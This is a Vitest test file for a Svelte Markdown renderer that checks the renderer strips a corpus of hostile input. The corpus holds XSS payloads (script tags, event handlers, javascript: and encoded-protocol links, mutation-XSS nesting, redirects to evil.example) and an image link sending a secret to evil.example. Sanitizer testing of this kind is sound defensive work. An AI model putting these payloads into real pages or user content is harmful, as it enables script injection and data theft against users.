import { flushSync, mount, unmount } from "svelte";
import { afterEach, describe, expect, it } from "vitest";
import { useHost, type Host } from "../host/host";
import Markdown from "./Markdown.svelte";

const ALLOWED = new Set([
  "DIV",
  "P",
  "SPAN",
  "H2",
  "H3",
  "UL",
  "OL",
  "LI",
  "STRONG",
  "EM",
  "DEL",
  "CODE",
  "PRE",
  "BR",
  "HR",
  "A",
  "BLOCKQUOTE",
  "TABLE",
  "THEAD",
  "TBODY",
  "TR",
  "TH",
  "TD",
  "BUTTON",
]);
const ATTRIBUTES = new Set([
  "class",
  "href",
  "rel",
  "title",
  "draggable",
  "start",
  "type",
  "role",
  "aria-label",
]);

const corpus = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg/onload=alert(1)>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  "<style>*{display:none}</style>",
  "<base href=//evil.example>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "[x](javascript:alert(1))",
  "[x](JavaScript:alert(1))",
  "[x](  javascript:alert(1)  )",
  "[x](java&#10;script:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#x6A;&#x61;vascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox)",
  "[x](file:///etc/passwd)",
  "[x](media://localhost/original/1)",
  '[x](https://ok.example "\\" onmouseover=\\"alert(1)")',
  '[x](https://ok.example/" onmouseover="alert(1))',
  "[a][r]\n\n[r]: javascript:alert(1)",
  "![x](https://evil.example/?q=secret)",
  "![x](javascript:alert(1))",
  "![<img src=x onerror=alert(1)>](https://evil.example/x.png)",
  "![a![b](https://evil.example/b.png)](https://evil.example/a.png)",
  "[![x](https://evil.example/x.png)](javascript:alert(1))",
  "<javascript:alert(1)>",
  "<https://ok.example>",
  "**<img src=x onerror=alert(1)>**",
  "- <script>alert(1)</script>\n  - [x](javascript:alert(1))",
  "> <script>alert(1)</script>\n> > <img src=x onerror=alert(1)>",
  "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <img src=x onerror=alert(1)> | ![x](//evil.example/x) |",
  "# <img src=x onerror=alert(1)>",
  '```html onload="alert(1)"\n<script>alert(1)</script>\n```',
  "`<script>alert(1)</script>`",
  "    <script>alert(1)</script>",
  "<div\n\n<script>alert(1)</script>\n\n</div>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<custom-element onclick=alert(1)>x</custom-element>",
];

let open: ReturnType<typeof mount> | null = null;

function draw(text: string) {
  const props = $state({ text });
  open = mount(Markdown, { target: document.body, props });
  flushSync();
  return props;
}

afterEach(() => {
  if (open) void unmount(open);
  open = null;
});

function check(source: string) {
  for (const element of document.body.querySelectorAll("*")) {
    expect(ALLOWED, `${element.tagName} from ${source}`).toContain(element.tagName);
    for (const { name } of element.attributes) {
      expect(ATTRIBUTES, `${name} from ${source}`).toContain(name);
    }
    const href = element.getAttribute("href");
    if (href !== null) expect(["https:", "http:", "mailto:"]).toContain(new URL(href).protocol);
  }
}

describe("hostile text", () => {
  it.each(corpus)("makes no element and no address of its own: %s", (source) => {
    draw(source);
    check(source);
  });

  it("stays harmless at every moment while it streams in", () => {
    const whole = corpus.join("\n\n");
    const props = draw("");
    for (let end = 1; end <= whole.length; end += 13) {
      props.text = whole.slice(0, end);
      flushSync();
      if (end % 7 === 0) check(whole.slice(0, end));
    }
    check(whole);
  });

  it("shows HTML as the text it is", () => {
    draw("<b>bold</b> and <script>alert(1)</script>");
    expect(document.body.textContent).toContain("<b>bold</b> and <script>alert(1)</script>");
  });

  it("loads no picture, but says where one would be", () => {
    draw("![a plan](https://example.com/plan.png)");
    expect(document.querySelector("img")).toBeNull();
    expect(document.querySelector("a")?.textContent).toBe("picture: a plan");
  });
});

describe("ordinary text", () => {
  it("becomes lists, emphasis, tables and code", () => {
    draw(
      "# Head\n\nSome **bold** and `code` &amp; more.\n\n3. three\n4. four\n\n| a |\n|---|\n| 1 |\n\n```txt\nx\n```",
    );
    expect(document.querySelector("h2")?.textContent).toBe("Head");
    expect(document.querySelector("p")?.textContent).toBe("Some bold and code & more.");
    expect(document.querySelector("ol")?.getAttribute("start")).toBe("3");
    expect(document.querySelector("td")?.textContent).toBe("1");
    expect(document.querySelector("pre")?.textContent).toBe("x");
  });

  it("keeps the elements of finished blocks while words are added", () => {
    const props = draw("First paragraph.\n\nSecond");
    const first = document.querySelector("p");
    props.text = "First paragraph.\n\nSecond one.\n\nThird";
    flushSync();
    expect(document.querySelector("p")).toBe(first);
    expect(document.querySelectorAll("p")).toHaveLength(3);
  });

  it("opens links through the host and never by itself", async () => {
    const opened: unknown[] = [];
    useHost({
      call: async (name: string, request: unknown) => void opened.push([name, request]),
      subscribe: async () => {},
      thumb: () => "",
    } as unknown as Host);
    draw("[docs](https://example.com/a)");
    const click = new MouseEvent("click", { bubbles: true, cancelable: true });
    document.querySelector("a")!.dispatchEvent(click);
    expect(click.defaultPrevented).toBe(true);
    expect(opened).toEqual([["open_link", { url: "https://example.com/a" }]]);
  });
});
